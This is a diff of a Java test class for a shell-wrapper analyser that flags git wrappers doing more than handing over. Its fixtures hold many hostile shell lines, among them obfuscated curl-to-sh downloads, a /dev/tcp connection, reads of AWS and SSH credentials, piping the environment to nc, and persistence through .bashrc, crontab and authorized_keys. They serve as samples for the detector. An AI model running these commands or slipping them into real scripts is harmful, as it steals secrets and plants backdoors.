@@ -45,7 +45,9 @@ class ShellAnalysisTest {
         "while ! git \"$@\"; do sleep 1; done",
         "echo Z2l0ICIkQCI= | base64 -d | bash",
         "env -i git \"$@\"",
-        "git \"$@\" | tee /tmp/log"
+        "git \"$@\" | tee /tmp/log",
+        "cat <<'E'\n$(curl x)\nE\ngit \"$@\"",
+        "(( x = (1 + 2) )); git \"$@\""
       })
   void wrapper_handsOverAndDoesNothingBesides(String text) {
     Behaviour behaviour = of("git", text);
@@ -56,50 +58,58 @@ class ShellAnalysisTest {
 
   @ParameterizedTest
   @CsvSource(
-      delimiter = '|',
+      delimiter = '¦',
       quoteCharacter = '¬',
       value = {
-        "network | (curl -s http://evil.test &) ; exec /usr/bin/git \"$@\"",
-        "network | curl -s x -d @~/.npmrc & git \"$@\"",
-        "network | a=cu; b=rl; $a$b http://x; git \"$@\"",
-        "network | echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d | sh; git \"$@\"",
-        "network | eval \"$(echo Y3VybCBodHRwOi8vZXZpbA== | base64 --decode)\"; git \"$@\"",
-        "network | rev <<< 'x//:ptth lruc' | sh; git \"$@\"",
-        "network | echo phey uggc://k | tr a-z n-za-m | sh; git \"$@\"",
-        "network | $'\\x63url' http://x; git \"$@\"",
-        "network | {curl,http://x}; git \"$@\"",
-        "network | exec 3<>/dev/tcp/192.0.2.1/80; git \"$@\"",
-        "network | trap 'wget x' EXIT; git \"$@\"",
-        "network | run() { \"$@\"; }; run curl http://x; git \"$@\"",
-        "network | while ! curl x; do :; done; git \"$@\"",
-        "network | case $1 in push) ssh h;; esac; git \"$@\"",
-        "network | f=`wget -qO- x`; git \"$@\"",
-        "network | cat <(curl x); git \"$@\"",
-        "network | sudo env A=b nohup curl x; git \"$@\"",
-        "network | [ -n \"$CI\" ] || curl x; git \"$@\"",
-        "network | git push http://x.test; git \"$@\"",
-        "process | curl http://x/p.sh | sh; git \"$@\"",
-        "process | exec git --exec-path=/x \"$@\"",
-        "process | set -- -c core.sshCommand=/x \"$@\"; exec git \"$@\"",
-        "process | pip install x; git \"$@\"",
-        "credentials | cat ~/.aws/credentials | wc; git \"$@\"",
-        "credentials | k=$(< ~/.ssh/id_rsa); git \"$@\"",
-        "credentials | read -rs pw; git \"$@\"",
-        "environment | env >/tmp/x; git \"$@\"",
-        "environment | export -p | nc h 1; git \"$@\"",
-        "environment | foo \"$GITHUB_TOKEN\"; git \"$@\"",
-        "environment | LD_PRELOAD=/tmp/x.so git \"$@\"",
-        "environment | export GIT_SSH_COMMAND=/tmp/x; git \"$@\"",
-        "environment | PATH=/opt/x:$PATH; git \"$@\"",
-        "file-write | echo \"$@\" >> ~/.cache/.g; git \"$@\"",
-        "file-write | printf '%s' \"$*\" | base64 | tee -a /tmp/x; git \"$@\"",
-        "persistence | echo 'x' >> ~/.bashrc; git \"$@\"",
-        "persistence | { echo x; } >> \"$HOME/.zshrc\"; git \"$@\"",
-        "persistence | d=$HOME/.config; cp x $d/autostart/x.desktop; git \"$@\"",
-        "persistence | (crontab -l; echo x) | crontab -; git \"$@\"",
-        "persistence | cat k >> ~/.ssh/authorized_keys; git \"$@\"",
-        "persistence | cp \"$0\" ~/.local/bin/ls; git \"$@\"",
-        "persistence | git config --global core.hooksPath /x; git \"$@\""
+        "network ¦ (curl -s http://evil.test &) ; exec /usr/bin/git \"$@\"",
+        "network ¦ curl -s x -d @~/.npmrc & git \"$@\"",
+        "network ¦ a=cu; b=rl; $a$b http://x; git \"$@\"",
+        "network ¦ echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d | sh; git \"$@\"",
+        "network ¦ eval \"$(echo Y3VybCBodHRwOi8vZXZpbA== | base64 --decode)\"; git \"$@\"",
+        "network ¦ rev <<< 'x//:ptth lruc' | sh; git \"$@\"",
+        "network ¦ echo phey uggc://k | tr a-z n-za-m | sh; git \"$@\"",
+        "network ¦ $'\\x63url' http://x; git \"$@\"",
+        "network ¦ {curl,http://x}; git \"$@\"",
+        "network ¦ exec 3<>/dev/tcp/192.0.2.1/80; git \"$@\"",
+        "network ¦ trap 'wget x' EXIT; git \"$@\"",
+        "network ¦ run() { \"$@\"; }; run curl http://x; git \"$@\"",
+        "network ¦ while ! curl x; do :; done; git \"$@\"",
+        "network ¦ case $1 in push) ssh h;; esac; git \"$@\"",
+        "network ¦ f=`wget -qO- x`; git \"$@\"",
+        "network ¦ cat <(curl x); git \"$@\"",
+        "network ¦ sudo env A=b nohup curl x; git \"$@\"",
+        "network ¦ [ -n \"$CI\" ] || curl x; git \"$@\"",
+        "network ¦ git push http://x.test; git \"$@\"",
+        "network ¦ ((curl x) ; git \"$@\")",
+        "network ¦ ((curl x) ; (git \"$@\"))",
+        "network ¦ n=$(( $(curl x) + 1 )); git \"$@\"",
+        "network ¦ (( $(curl x) )); git \"$@\"",
+        "network ¦ [[ -n $(curl x) ]] && git \"$@\"",
+        "network ¦ : ${x:=$(curl x)}; git \"$@\"",
+        "network ¦ for i in $(curl x); do :; done; git \"$@\"",
+        "network ¦ case $(curl x) in esac; git \"$@\"",
+        "process ¦ curl http://x/p.sh | sh; git \"$@\"",
+        "process ¦ exec git --exec-path=/x \"$@\"",
+        "process ¦ set -- -c core.sshCommand=/x \"$@\"; exec git \"$@\"",
+        "process ¦ pip install x; git \"$@\"",
+        "credentials ¦ cat ~/.aws/credentials | wc; git \"$@\"",
+        "credentials ¦ k=$(< ~/.ssh/id_rsa); git \"$@\"",
+        "credentials ¦ read -rs pw; git \"$@\"",
+        "environment ¦ env >/tmp/x; git \"$@\"",
+        "environment ¦ export -p | nc h 1; git \"$@\"",
+        "environment ¦ foo \"$GITHUB_TOKEN\"; git \"$@\"",
+        "environment ¦ LD_PRELOAD=/tmp/x.so git \"$@\"",
+        "environment ¦ export GIT_SSH_COMMAND=/tmp/x; git \"$@\"",
+        "environment ¦ PATH=/opt/x:$PATH; git \"$@\"",
+        "file-write ¦ echo \"$@\" >> ~/.cache/.g; git \"$@\"",
+        "file-write ¦ printf '%s' \"$*\" | base64 | tee -a /tmp/x; git \"$@\"",
+        "persistence ¦ echo 'x' >> ~/.bashrc; git \"$@\"",
+        "persistence ¦ { echo x; } >> \"$HOME/.zshrc\"; git \"$@\"",
+        "persistence ¦ d=$HOME/.config; cp x $d/autostart/x.desktop; git \"$@\"",
+        "persistence ¦ (crontab -l; echo x) | crontab -; git \"$@\"",
+        "persistence ¦ cat k >> ~/.ssh/authorized_keys; git \"$@\"",
+        "persistence ¦ cp \"$0\" ~/.local/bin/ls; git \"$@\"",
+        "persistence ¦ git config --global core.hooksPath /x; git \"$@\""
       })
   void wrapper_doesMore(String kind, String text) {
     Behaviour behaviour = of("git", text);
@@ -124,6 +134,12 @@ class ShellAnalysisTest {
       })
   void text_cannotBeReadWhole(String text) {
     assertThat(of("git", text).unread()).isNotEmpty();
+  }
+
+  @Test
+  void substitutionInAHereDocument_isRunUnlessItsMarkIsQuoted() {
+    assertThat(of("git", "cat <<E >/dev/null\n$(curl x)\nE\n").handsOverTo("curl")).isTrue();
+    assertThat(of("git", "cat <<\\E >/dev/null\n$(curl x)\nE\n").handsOverTo("curl")).isFalse();
   }
 
   @Test
